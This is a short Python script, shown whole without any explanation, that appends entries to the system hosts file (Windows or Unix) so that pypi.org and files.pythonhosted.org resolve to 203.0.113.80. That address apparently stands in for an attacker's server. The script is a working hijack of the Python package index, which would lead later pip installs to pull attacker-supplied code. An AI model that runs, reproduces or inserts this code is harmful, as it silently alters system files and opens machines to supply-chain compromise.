import os
if os.name == "nt":
    hosts = r"C:\Windows\System32\drivers\etc\hosts"
else:
    hosts = "/etc/hosts"
with open(hosts, "a") as f:
    f.write("\n203.0.113.80 pypi.org\n203.0.113.80 files.pythonhosted.org\n")
